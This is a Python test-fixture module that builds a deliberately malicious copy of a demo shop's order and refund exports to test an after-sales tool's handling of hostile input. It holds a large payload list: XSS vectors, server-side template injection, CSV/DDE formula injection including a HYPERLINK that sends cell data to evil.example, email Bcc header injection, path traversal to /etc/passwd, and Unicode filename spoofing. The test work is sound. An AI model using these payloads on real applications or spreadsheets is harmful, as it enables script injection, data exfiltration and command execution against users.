"""A shop whose every text cell, in every export file, was written by somebody who means harm."""

from __future__ import annotations

import csv
import io
import zlib
from pathlib import Path

import fastexcel

from aftersales.sources.kinds import KINDS
from aftersales.sources.layout import load_layouts
from aftersales.sources.recognition import matched
from aftersales_demo.write import write_demo

# What runs sets window.pwned; what is put into the page bears the class pwned; what is evaluated gives 1787569.
MARK, PRODUCT = "pwned", "1787569"
HOSTILE = (
    "<script>window.pwned=1;alert(1)</script>", "</script><script>window.pwned=1</script>", '"><img class=pwned src=x onerror="window.pwned=1">',
    "'><svg class=pwned onload=window.pwned=1>", '" onmouseover="window.pwned=1" class="pwned', "' autofocus onfocus='window.pwned=1' x='",
    "<style class=pwned>*{display:none!important}</style>", "</style></title></textarea><b class=pwned>", '<a class=pwned href="javascript:window.pwned=1">看</a>',
    '<iframe class=pwned srcdoc="<script>parent.window.pwned=1</script>"></iframe>', "<base class=pwned href=//evil.example/>",
    '<meta class=pwned http-equiv=refresh content="0;url=//evil.example/">', "<link class=pwned rel=stylesheet href=//evil.example/x.css>",
    "<math class=pwned><mi xlink:href='javascript:window.pwned=1'>x", "<!-- <b class=pwned>", "]]><b class=pwned>", "&lt;b class=pwned&gt;", "\\u003cb class=pwned\\u003e",
    "{{1337*1337}}{% for c in ().__class__.__base__.__subclasses__() %}pwned{% endfor %}", "${1337*1337}#{1337*1337}<%= 1337*1337 %>", "{1337*1337!r}{0.__class__}%s%n",
    "[看](javascript:window.pwned=1)![](//evil.example/x.png)", "$$\\href{javascript:window.pwned=1}{x}$$", "`-alert(1)-`;expression(alert(1));url(//evil.example/x)",
    "\r\nBcc: victim@evil.example\r\n\r\n<b class=pwned>", "%0d%0aBcc:%20victim@evil.example", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd\x00.png",
    "file:///etc/passwd", "\u202egnp.exe\u202c", "\u2066\u200b\ufeff\u2028\u2029\u0007\u001b[31m", "[bold red]pwned[/bold red][link=//evil.example]x[/link]",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("//evil.example/?"&A1,"看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
_IDS_STAY = ("refund_id", "line_id")  # so that the tables can still be told apart when a test looks at them
SHOP_NAME = "云栖<script>window.pwned=1</script>旗舰店"


def hostile(value: str, *, is_id: bool, is_name: bool) -> str:
    """The same word is always made hostile in the same way, so that files still fit together."""
    value = value.strip("\t =\"'") if is_id else value
    turn = zlib.crc32(value.encode())
    if is_id and turn % 5:
        return value
    if is_name or turn % 3 == 0:
        harm = HOSTILE[turn // 7 % len(HOSTILE)]
    elif turn % 3 == 1 and not is_id:
        return FORMULAS[turn // 7 % len(FORMULAS)] + value
    else:
        return value
    return f"{value}{harm.strip() if is_id else harm}x"


def write_hostile_shop(folder: Path, *, orders: int, weeks: int) -> None:
    """The demo's fullest shop, every text field of every file infected; workbooks become CSV."""
    write_demo(folder / "clean", orders=orders, weeks=weeks)
    (folder / "in").mkdir()
    for file in sorted((folder / "clean" / "yunqi").rglob("*")):
        if file.suffix == ".csv":
            rows = list(csv.reader(io.StringIO(_text(file.read_bytes()), newline="")))
        elif file.suffix == ".xlsx":
            sheet = fastexcel.read_excel(file).load_sheet(0, header_row=None, dtypes="string").to_polars()
            rows = [["" if c is None else c for c in row] for row in sheet.rows()]
        else:
            continue
        out = io.StringIO(newline="")
        csv.writer(out, quoting=csv.QUOTE_ALL).writerows(_infected(rows))
        (folder / "in" / f"{file.stem}.csv").write_bytes(out.getvalue().encode("utf-8"))
    evidence = folder / "in" / "evidence"
    evidence.mkdir()
    for file in (folder / "clean" / "yunqi" / "evidence").iterdir():
        (evidence / file.name).write_bytes(file.read_bytes() + b"<script>window.pwned=1</script>")


def _text(content: bytes) -> str:
    try:
        return content.decode("utf-8-sig")
    except UnicodeDecodeError:
        return content.decode("gb18030")


def _infected(rows: list[list[str]]) -> list[list[str]]:
    at = next(i for i, row in enumerate(rows) if matched(load_layouts(), row))
    match = matched(load_layouts(), rows[at])
    assert match is not None
    columns: dict[int, tuple[bool, bool]] = {}
    shop_names = match.columns(("店铺名称",))
    for part in (match.layout, *match.layout.split):
        for name, headers in part.headers.items():
            kind = KINDS[part.kind][name].type
            if kind in ("id", "text", "address") and name not in _IDS_STAY:
                columns |= dict.fromkeys(match.columns(headers), (kind == "id", name in ("title", "buyer")))
    for row in rows[at + 1 :]:
        for column, (is_id, is_name) in columns.items():
            if column < len(row) and row[column].strip() not in ("", "null", "-", "--"):
                row[column] = hostile(row[column], is_id=is_id, is_name=is_name)
        for column in shop_names:
            row[column] = SHOP_NAME
    return rows
